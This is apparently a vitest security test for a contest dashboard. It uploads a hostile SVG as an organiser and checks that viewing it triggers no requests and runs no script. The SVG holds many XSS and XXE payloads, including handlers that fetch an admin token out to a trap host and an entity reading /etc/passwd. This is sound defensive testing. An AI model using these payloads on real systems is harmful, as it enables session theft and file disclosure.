// A hostile file that an organiser was given and uploaded, opened with the dashboard's session.
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from 'vitest';
import { API_PATH, apiRoutes as paths } from '#shared/paths.ts';
import { callsOf } from '#tests/support/contest-calls.ts';
import { openTab } from '#tests/support/organiser.ts';
import { formOf } from '#tests/support/senders.ts';
import { openTestContest } from '#tests/support/test-contest.ts';

const testContest = openTestContest();

test('a hostile drawing does nothing when it is opened as a page', async () => {
  const asked: string[] = [];
  const canary = http.createServer((request, response) => {
    asked.push(request.url ?? '');
    response.end();
  });
  await new Promise<void>((resolve) => canary.listen(0, '127.0.0.1', resolve));
  const trap = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`;
  const steal = `fetch('${trap}/stolen?'+localStorage.adminToken);document.documentElement.id='ran'`;
  const drawing = `<?xml version="1.0"?>
    <!DOCTYPE svg [<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY far SYSTEM "${trap}/entity">]>
    <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90" onload="${steal}">
      <script>${steal}</script>
      <script href="${trap}/script.js"/>
      <style>@import url('${trap}/style.css'); rect { fill: url('${trap}/fill.svg#a') }</style>
      <image href="${trap}/image.png" width="9" height="9" onerror="${steal}"/>
      <use href="${trap}/use.svg#a"/>
      <a href="javascript:${steal}"><rect width="90" height="90"/></a>
      <foreignObject width="90" height="90"><body xmlns="http://www.w3.org/1999/xhtml">
        <iframe src="${trap}/frame"></iframe><img src="${trap}/img.png" onerror="${steal}"/>
        <form action="${trap}/form"><input name="a"/></form>
      </body></foreignObject>
      <text>&file;&far;</text>
    </svg>`;
  const { origin, signInAdmin } = callsOf(testContest.contest);
  const uploaded = await fetch(origin + API_PATH + paths.uploadAsset, {
    method: 'POST',
    headers: { Authorization: `Bearer ${await signInAdmin()}` },
    body: formOf([['file', { bytes: Buffer.from(drawing), name: 'tricks.svg' }]]),
  });
  expect(uploaded.status).toBe(200);
  const rosa = await openTab(testContest, 'assets');
  await rosa.sees('tricks.svg');
  // A tab of hers, with her session, whose console errors are expected.
  const tab = await rosa.page.browserContext().newPage();
  const refused: string[] = [];
  tab.on('console', (message) => refused.push(message.text()));
  await tab.goto(`${origin}${API_PATH}/assets/tricks.svg`);
  await tab.mouse.click(45, 45);
  await tab.waitForNetworkIdle();
  expect(asked).toEqual([]);
  // It was rendered, and it tried: the browser logs what it blocked.
  expect(refused.join('\n')).toMatch(/script/);
  expect(await tab.content()).not.toMatch(/id="ran"|root:/);
  canary.close();
});
